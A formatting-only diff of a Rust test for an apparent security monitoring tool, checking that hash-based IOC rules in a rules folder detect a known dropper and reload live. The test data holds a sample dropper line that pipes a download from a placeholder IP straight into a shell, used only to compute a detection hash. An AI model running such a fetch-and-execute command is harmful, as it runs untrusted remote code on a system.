@@ -40,7 +40,10 @@ async fn rule_folder_rules_fire_and_reload_live() {
     let dropper = b"#!/bin/sh\n# known dropper\ncurl http://198.51.100.7/x | sh\n";
     std::fs::write(
         rules.path().join("dropper-hashes.ioc"),
-        format!("# hashes of known droppers\n{}\n", vigie_model::hex::sha256(dropper)),
+        format!(
+            "# hashes of known droppers\n{}\n",
+            vigie_model::hex::sha256(dropper)
+        ),
     )
     .unwrap();
     let stack = Stack::start(&format!("rules_dirs = [\"{}\"]\n", rules.path().display())).await;
@@ -85,7 +88,10 @@ async fn rule_folder_rules_fire_and_reload_live() {
             .unwrap()
     })
     .await;
-    assert!(summary.contains(&vigie_model::hex::sha256(dropper)) && summary.contains("dropper-hashes"), "{summary}");
+    assert!(
+        summary.contains(&vigie_model::hex::sha256(dropper)) && summary.contains("dropper-hashes"),
+        "{summary}"
+    );
 
     // A new rule file takes effect without a restart.
     std::fs::write(rules.path().join("cron.yml"), CRON).unwrap();
